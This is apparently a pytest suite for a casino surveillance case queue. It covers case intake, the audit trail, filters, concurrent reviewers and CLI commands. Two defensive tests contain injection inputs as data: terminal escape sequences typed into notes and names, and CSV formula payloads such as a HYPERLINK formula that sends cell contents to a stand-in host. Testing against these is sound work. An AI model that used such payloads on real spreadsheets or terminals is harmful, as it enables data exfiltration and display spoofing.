"""Cases in the database, on SQLite and PostgreSQL (the ``engine`` fixture): findings and
alerts opened or joined by subject, once; the life cycle and its audit trail; the
queue's filters; two reviewers acting on one case at once, with no lost update."""

from __future__ import annotations

import csv as csv_module
import io
import itertools
import threading
from collections.abc import Callable
from typing import Any

import msgspec
import orjson
import pytest
from sqlalchemy import Engine

from services.cases.actions import CaseChanged, assign, close, escalate, note
from services.cases.audit import change_case
from services.cases.intake import open_cases
from services.cases.lifecycle import CaseStatus
from services.cases.queries import CaseFilter, get_case, list_cases
from services.events.contract import Alert, Finding
from services.ledger.db import open_ledger, write_transaction
from services.ledger.posting import post_many
from tests.unit.cli.helpers import assert_one_line_usage_error, pitwatch
from tests.unit.ledger.builders import DAY_TWO, hcf_dp_collects, hcf_seat1_wins
from tests.unit.ledger.dbread import count

AT = "2026-01-20T10:00:00.000Z"


def finding(severity: str, code: str = "MISPAY", rule: str = "HCF-7") -> Finding:
    return Finding(code=code, rule=rule, severity=severity, seat=3, amount=-5,  # type: ignore[arg-type]
                   message=f"{code} at seat 3")


def sweetheart(player: str, count: int = 8, dealer: str = "D7",
               severity: str = "critical") -> Alert:
    return Alert(table_id="T1", code="SWEETHEARTING", rule="SURV-2", severity=severity,  # type: ignore[arg-type]
                 message=f"{dealer} favours {player}", hand_id="T1-000002",
                 evidence={"dealer": dealer, "player": player, "count": count,
                           "hands": [{"table_id": "T1", "hand_id": "T1-000001"},
                                     {"table_id": "T1", "hand_id": "T1-000002"}]})


def hands() -> list[Any]:
    """T1-000001 with a warning finding (day 1), T1-000002 with an info finding only,
    T1-000003 with a critical one (day 2)."""
    return [msgspec.structs.replace(hcf_seat1_wins("T1-000001"), status="discrepancy",
                                    findings=[finding("warning")]),
            msgspec.structs.replace(hcf_dp_collects("T1-000002"),
                                    findings=[finding("info", "NOTE", "GEN-5")]),
            msgspec.structs.replace(hcf_seat1_wins("T1-000003", ended_at=DAY_TWO),
                                    status="discrepancy", findings=[finding("critical")])]


@pytest.fixture
def booked(engine: Engine) -> Engine:
    post_many(engine, hands())
    return engine


def test_findings_at_warning_or_above_open_one_case_per_hand(booked: Engine) -> None:
    result = open_cases(booked, hands(), [], at=AT)
    assert (result.opened, result.joined, result.repeats) == (2, 0, 0)
    cases = list_cases(booked)
    assert [(c.subject, c.severity, c.state, c.version) for c in cases] == [
        ("hand:T1-000003", "critical", "open", 1), ("hand:T1-000001", "warning", "open", 1)]
    first = get_case(booked, cases[1].case_id)
    assert first is not None
    assert first.hands == [("T1", "T1-000001")]
    assert first.tags == {"day": ["2024-05-01"], "dealer": ["D7"], "game": ["hcf"],
                          "player": ["alice", "bob", "carol"], "table": ["T1"]}
    assert [(a.version, a.action, a.state_before, a.state_after, a.actor)
            for a in first.audit] == [(1, "open", None, "open", "pitwatch")]


def test_alerts_join_the_open_case_of_their_subject_once(booked: Engine) -> None:
    """Two SURV-2 alerts on dealer D7 (players P12 and P3) and the SURV-8 on D7: one case
    on the dealer, three pieces of evidence; an info alert opens nothing; taking the same
    alerts again adds nothing."""
    drift = Alert(table_id="T1", code="PROCEDURE_DRIFT", rule="SURV-8", severity="warning",
                  message="D7 mispays", evidence={"game": "hcf", "scope": "dealer",
                                                  "dealer": "D7", "kind": "mispay",
                                                  "count": 9, "hands": []})
    info = Alert(table_id="T1", code="DUPLICATE_EVENT", rule="SURV-9", severity="info",
                 message="again", seq=4)
    alerts = [sweetheart("P12"), sweetheart("P3", severity="warning"), drift, info]
    first = open_cases(booked, [], alerts, at=AT)
    assert (first.opened, first.joined) == (1, 2)
    again = open_cases(booked, [], alerts, at=AT)
    assert (again.opened, again.joined, again.repeats) == (0, 0, 3)
    (case,) = list_cases(booked)
    assert (case.subject, case.severity, case.evidence, case.hands, case.version) == (
        "dealer:D7", "critical", 3, 2, 3)
    detail = get_case(booked, case.case_id)
    assert detail is not None
    assert [a.action for a in detail.audit] == ["open", "evidence", "evidence"]
    assert detail.tags["player"] == ["P12", "P3"] and detail.tags["day"] == ["2024-05-01"]


def test_new_evidence_on_a_closed_subject_opens_a_new_case(booked: Engine) -> None:
    open_cases(booked, [], [sweetheart("P12")], at=AT)
    (case,) = list_cases(booked)
    close(booked, case.case_id, "no_issue", "video shows a correct payout", "ann")
    open_cases(booked, [], [sweetheart("P12", count=16)], at=AT)
    states = sorted((c.state, c.subject) for c in list_cases(booked))
    assert states == [("closed", "dealer:D7"), ("open", "dealer:D7")]


def test_a_case_worked_to_a_decision_leaves_its_whole_trail(booked: Engine) -> None:
    open_cases(booked, hands(), [], at=AT)
    case_id = list_cases(booked, CaseFilter(severity="critical"))[0].case_id
    assign(booked, case_id, "ann", "supervisor")
    note(booked, case_id, "pulled the video for 18:42", "ann")
    escalate(booked, case_id, "ann", "payout short by 5 on two hands")
    done = close(booked, case_id, "confirmed", "dealer short-paid seat 3", "director")
    assert (done.version, done.after.state, done.after.outcome) == (5, "closed", "confirmed")
    detail = get_case(booked, case_id)
    assert detail is not None and detail.reason == "dealer short-paid seat 3"
    trail = [(a.version, a.actor, a.action, a.state_before, a.state_after)
             for a in detail.audit]
    assert trail == [(1, "pitwatch", "open", None, "open"),
                     (2, "supervisor", "assign", "open", "in_review"),
                     (3, "ann", "note", "in_review", "in_review"),
                     (4, "ann", "escalate", "in_review", "escalated"),
                     (5, "director", "close", "escalated", "closed")]
    assert detail.audit[2].detail["note"] == "pulled the video for 18:42"
    assert detail.audit[1].detail["changed"] == {"state": "in_review", "assignee": "ann"}
    assert detail.audit[4].detail["changed"] == {
        "state": "closed", "outcome": "confirmed", "reason": "dealer short-paid seat 3"}


def test_an_action_on_a_case_that_changed_since_is_refused(booked: Engine) -> None:
    open_cases(booked, hands(), [], at=AT)
    case_id = list_cases(booked)[0].case_id
    assign(booked, case_id, "ann", "sup", expected_version=1)
    audit = count(booked, "case_audit")
    with pytest.raises(CaseChanged, match="version 2, not 1"):
        close(booked, case_id, "no_issue", "fine", "bob", expected_version=1)
    assert count(booked, "case_audit") == audit
    assert get_case(booked, case_id).summary.state == "in_review"  # type: ignore[union-attr]


def test_the_queue_filters(booked: Engine) -> None:
    open_cases(booked, hands(), [sweetheart("P12")], at=AT)

    def subjects(**wanted: Any) -> list[str]:
        return sorted(c.subject for c in list_cases(booked, CaseFilter(**wanted)))

    every = ["dealer:D7", "hand:T1-000001", "hand:T1-000003"]
    assert subjects() == every
    assert subjects(severity="critical") == ["dealer:D7", "hand:T1-000003"]
    assert subjects(severity="warning") == every
    assert subjects(state="open") == every and subjects(state="closed") == []
    assert subjects(game="hcf") == every  # the sweetheart alert's hands are HCF hands
    assert subjects(table="T1") == every and subjects(table="T2") == []
    assert subjects(dealer="D7") == every
    assert subjects(player="P12") == ["dealer:D7"]
    assert subjects(player="alice") == ["hand:T1-000001", "hand:T1-000003"]
    from datetime import date
    assert subjects(day=date(2024, 5, 2)) == ["hand:T1-000003"]
    assert subjects(day=date(2024, 5, 1)) == ["dealer:D7", "hand:T1-000001"]


# ---------------------------------------------------------------- at once


def at_once(workers: list[Callable[[], object]]) -> list[BaseException]:
    """Run every worker in its own thread, released together; their failures."""
    start = threading.Barrier(len(workers))
    failures: list[BaseException] = []

    def run(work: Callable[[], object]) -> None:
        try:
            start.wait()
            work()
        except BaseException as exc:  # a thread cannot raise into pytest: returned
            failures.append(exc)

    threads = [threading.Thread(target=run, args=(w,)) for w in workers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return failures


def test_two_reviewers_acting_on_one_case_at_once_lose_nothing(db_url: str) -> None:
    """Two reviewers, each on a connection of their own, each add 15 notes and reassign
    the case to themselves 5 times, all at once: all 40 actions are in the trail with
    versions 2..41, each entry's state before is the state after the one before it, the
    row's version is 41 and its assignee the last assign of the trail."""
    setup = open_ledger(db_url)
    post_many(setup, hands())
    open_cases(setup, hands(), [], at=AT)
    case_id = list_cases(setup)[0].case_id
    engines = {name: open_ledger(db_url) for name in ("ann", "bob")}

    def reviewer(name: str) -> Callable[[], None]:
        def work() -> None:
            for n in range(20):
                if n % 4 == 3:  # to a reviewer it has not (an assign changing nothing is
                    assign(engines[name], case_id, f"{name}{n}", name)  # not recorded)
                else:
                    note(engines[name], case_id, f"{name} note {n}", name)
        return work

    assert at_once([reviewer("ann"), reviewer("bob")]) == []
    detail = get_case(setup, case_id)
    assert detail is not None
    trail = detail.audit
    assert [a.version for a in trail] == list(range(1, 42))
    assert all(b.state_before == a.state_after for a, b in itertools.pairwise(trail))
    notes = sorted(a.detail["note"] for a in trail if a.action == "note")
    assert notes == sorted(f"{who} note {n}" for who in ("ann", "bob") for n in range(20)
                           if n % 4 != 3)
    assigns = [a for a in trail if a.action == "assign"]
    assert len(assigns) == 10
    assert detail.summary.version == 41
    last = detail.summary.assignee  # the last assign's: its actor gave it to themselves
    assert last in {f"{who}{n}" for who in ("ann", "bob") for n in (3, 7, 11, 15, 19)}
    assert last is not None and last.startswith(assigns[-1].actor)
    for engine in [setup, *engines.values()]:
        engine.dispose()


def test_two_reviewers_deciding_on_the_same_version_one_wins(db_url: str) -> None:
    """Both saw version 1 and act at once (one closes, one escalates): exactly one action
    is applied; the other is refused as a change since version 1, and writes nothing."""
    setup = open_ledger(db_url)
    post_many(setup, hands())
    open_cases(setup, hands(), [], at=AT)
    case_id = list_cases(setup)[0].case_id
    engines = [open_ledger(db_url), open_ledger(db_url)]
    failures = at_once([
        lambda: close(engines[0], case_id, "no_issue", "fine", "ann", expected_version=1),
        lambda: escalate(engines[1], case_id, "bob", "look again", expected_version=1)])
    assert len(failures) == 1 and isinstance(failures[0], CaseChanged)
    detail = get_case(setup, case_id)
    assert detail is not None
    assert [a.version for a in detail.audit] == [1, 2]
    assert detail.summary.state in ("closed", "escalated")
    for engine in [setup, *engines]:
        engine.dispose()


def test_two_writers_opening_the_same_subject_at_once_make_one_case(db_url: str) -> None:
    setup = open_ledger(db_url)
    engines = [open_ledger(db_url), open_ledger(db_url)]
    failures = at_once([lambda: open_cases(engines[0], [], [sweetheart("P1")], at=AT),
                        lambda: open_cases(engines[1], [], [sweetheart("P2")], at=AT)])
    assert failures == []
    (case,) = list_cases(setup)
    assert (case.subject, case.evidence, case.version) == ("dealer:D7", 2, 2)
    for engine in [setup, *engines]:
        engine.dispose()


# ---------------------------------------------------------------- the commands


def test_the_commands(tmp_path: Any) -> None:
    url = f"sqlite:///{tmp_path}/cases.sqlite"
    engine = open_ledger(url)
    post_many(engine, hands())
    open_cases(engine, hands(), [sweetheart("P12"), sweetheart("P3")], at=AT)
    engine.dispose()
    listed = pitwatch("cases", "list", "--db", url, "--format", "json")
    assert listed.code == 0
    rows = orjson.loads(listed.stdout)
    # most serious first, then oldest (the hands' findings were taken before the alerts)
    assert [r["subject"] for r in rows] == ["hand:T1-000003", "dealer:D7", "hand:T1-000001"]
    case = str(rows[1]["case"])
    csv = pitwatch("cases", "list", "--db", url, "--format", "csv", "--severity", "critical")
    assert csv.stdout.splitlines()[0].startswith("case,state,severity,subject")
    assert len(csv.stdout.splitlines()) == 3
    ran = pitwatch("cases", "assign", case, "ann", "--actor", "sup", "--db", url)
    assert ran.code == 0 and "open -> in_review, assignee ann (version 3)" in ran.stderr
    stale = pitwatch("cases", "note", case, "late", "--actor", "bob", "--version", "2",
                     "--db", url)
    assert stale.code == 1 and "version 3, not 2" in stale.stderr
    assert pitwatch("cases", "close", case, "--outcome", "referred", "--reason",
                    "to the regulator", "--actor", "dir", "--db", url).code == 0
    assert_one_line_usage_error(
        pitwatch("cases", "escalate", case, "--actor", "bob", "--db", url), "is closed")
    assert_one_line_usage_error(
        pitwatch("cases", "close", case, "--outcome", "guilty", "--reason", "x",
                 "--db", url), "choose from")
    assert_one_line_usage_error(pitwatch("cases", "show", "999", "--db", url), "no case 999")
    beyond = "99999999999999999999999"  # once the driver's OverflowError, in a traceback
    assert_one_line_usage_error(pitwatch("cases", "show", beyond, "--db", url),
                                f"no case {beyond}")
    assert_one_line_usage_error(pitwatch("cases", "note", beyond, "x", "--actor", "a",
                                         "--db", url), f"no case {beyond}")
    shown = orjson.loads(pitwatch("cases", "show", case, "--db", url, "--format",
                                  "json").stdout)
    assert [a["action"] for a in shown["audit"]] == ["open", "evidence", "assign", "close"]
    assert shown["outcome"] == "referred" and shown["reason"] == "to the regulator"


def _one_case(tmp_path: Any) -> tuple[str, str]:
    """A ledger with the test hands booked and their cases opened: its URL and the first
    case's number, as the command line takes them."""
    url = f"sqlite:///{tmp_path}/cases.sqlite"
    engine = open_ledger(url)
    post_many(engine, hands())
    open_cases(engine, hands(), [sweetheart("P12")], at=AT)
    engine.dispose()
    case = str(orjson.loads(pitwatch("cases", "list", "--db", url, "--format",
                                     "json").stdout)[0]["case"])
    return url, case


def test_escape_sequences_typed_into_a_case_are_shown_not_obeyed(tmp_path: Any) -> None:
    """A note is typed by people and kept for years. One holding an escape sequence (a
    window title, a colour) once reached the terminal of whoever ran ``cases show`` raw; it
    is shown as its escapes now, and kept as typed (JSON gives it back exactly). Such a
    note is refused since (``test_names_and_times``); one written before is in the trail
    here as the writer keeps it. A name (actor, assignee) holding one is refused: names
    are one line of visible characters."""
    url, case = _one_case(tmp_path)
    note = "seen\x1b[2K\x1b]0;all clear\x07 [red]x[/red]\nsecond line"
    refused = pitwatch("cases", "note", case, note, "--actor", "eve", "--db", url)
    assert_one_line_usage_error(refused, "the note holds a control character")
    _note_as_before_it_was_refused(url, int(case), note, "eve")
    for args in (["note", case, "x", "--actor", "eve\x1b[8m"],
                 ["assign", case, "ann\x9b1m", "--actor", "sup"]):
        refused = pitwatch("cases", *args, "--db", url)
        assert_one_line_usage_error(refused, "holds a control or formatting character")
    shown = pitwatch("cases", "show", case, "--db", url, columns=400)
    screen = shown.stdout + shown.stderr
    assert not any(c in screen for c in "\x1b\x07\x9b"), repr(screen)
    flat = " ".join(screen.replace("│", " ").split())  # the table wraps the note
    for visible in ("seen\\x1b[", "clear\\x07 [red]x[/r"):
        assert visible in flat, (visible, flat)
    kept = orjson.loads(pitwatch("cases", "show", case, "--db", url, "--format",
                                 "json").stdout)
    assert [a["detail"].get("note") for a in kept["audit"]].count(note) == 1


def _note_as_before_it_was_refused(url: str, case_id: int, text: str, actor: str) -> None:
    """A note in the trail as the writer (``change_case``) keeps it, past the lifecycle's
    checks of today: what a database written before them may hold."""
    engine = open_ledger(url)
    try:
        detail = get_case(engine, case_id)
        assert detail is not None
        s = detail.summary
        status = CaseStatus(s.state, s.severity, s.assignee, s.outcome, detail.reason)
        with write_transaction(engine) as conn:
            change_case(conn, case_id, s.version, status, status, "note", actor,
                        "2026-01-05T20:00:00.000Z", {"note": text})
    finally:
        engine.dispose()


def test_text_that_starts_like_a_formula_is_not_a_formula_in_csv(tmp_path: Any) -> None:
    """CSV is opened in a spreadsheet. An assignee or actor typed as ``=HYPERLINK(...)``
    or ``@SUM(...)`` was written as it was, and ran as a formula on the reviewer's
    machine; such a cell starts with a ``'`` now. A carriage return in a note went out
    unquoted and split its row in two. JSON still gives back exactly what was typed."""
    url, case = _one_case(tmp_path)
    formula = '=HYPERLINK("http://x.test/?"&A1,"open")'
    assert pitwatch("cases", "note", case, "one\rtwo", "--actor", "@SUM(A1)",
                    "--db", url).code == 0
    assert pitwatch("cases", "assign", case, formula, "--actor", "sup", "--db", url).code == 0
    shown = pitwatch("cases", "show", case, "--db", url, "--format", "csv")
    listed = pitwatch("cases", "list", "--db", url, "--format", "csv")
    assert shown.code == 0 and listed.code == 0, shown.stderr + listed.stderr
    rows = [row for ran in (shown, listed)
            for row in csv_module.reader(io.StringIO(ran.stdout, newline=""))]
    cells = [cell for row in rows for cell in row]
    assert "'@SUM(A1)" in cells and "'" + formula in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells), cells
    assert "note: one\rtwo" in cells  # one cell: its row is whole
    kept = orjson.loads(pitwatch("cases", "show", case, "--db", url, "--format",
                                 "json").stdout)
    assert kept["assignee"] == formula
    assert [a["actor"] for a in kept["audit"]].count("@SUM(A1)") == 1


def test_the_queue_command_takes_every_filter_and_format(tmp_path: Any) -> None:
    """``pitwatch cases list`` with each filter, through the command (the same cases as
    ``test_the_queue_filters`` by hand), and its three formats; a bad day or state is a
    one-line usage error."""
    url = f"sqlite:///{tmp_path}/queue.sqlite"
    engine = open_ledger(url)
    post_many(engine, hands())
    open_cases(engine, hands(), [sweetheart("P12")], at=AT)
    engine.dispose()

    def subjects(*options: str) -> list[str]:
        ran = pitwatch("cases", "list", "--db", url, "--format", "json", *options)
        assert ran.code == 0, ran.stderr
        return sorted(r["subject"] for r in orjson.loads(ran.stdout))

    every = ["dealer:D7", "hand:T1-000001", "hand:T1-000003"]
    assert subjects() == every
    assert subjects("--severity", "critical") == ["dealer:D7", "hand:T1-000003"]
    assert subjects("--state", "open") == every and subjects("--state", "closed") == []
    assert subjects("--game", "hcf") == every  # the alert's evidence hands are HCF's
    # A table or dealer the database does not know is refused (test_list_subjects).
    assert subjects("--table", "T1") == every and subjects("--dealer", "D7") == every
    assert subjects("--player", "P12") == ["dealer:D7"]
    assert subjects("--date", "2024-05-02") == ["hand:T1-000003"]
    assert subjects("--game", "hcf", "--severity", "critical") == ["dealer:D7",
                                                                    "hand:T1-000003"]
    # most serious, then oldest (the findings were taken before the alert)
    assert subjects("--limit", "1") == ["hand:T1-000003"]
    assert subjects("--assignee", "ann") == []
    table = pitwatch("cases", "list", "--db", url, "--format", "table")
    assert table.code == 0 and "Cases (3)" in table.stdout
    assert all(word in table.stdout for word in ("critical", "warning", "open"))
    csv = pitwatch("cases", "list", "--db", url, "--format", "csv", "--player", "P12")
    lines = csv.stdout.splitlines()
    assert len(lines) == 2 and "dealer:D7" in lines[1]
    assert_one_line_usage_error(pitwatch("cases", "list", "--db", url, "--date", "May 2"),
                                "YYYY-MM-DD")
    assert_one_line_usage_error(pitwatch("cases", "list", "--db", url, "--state", "done"),
                                "choose from")
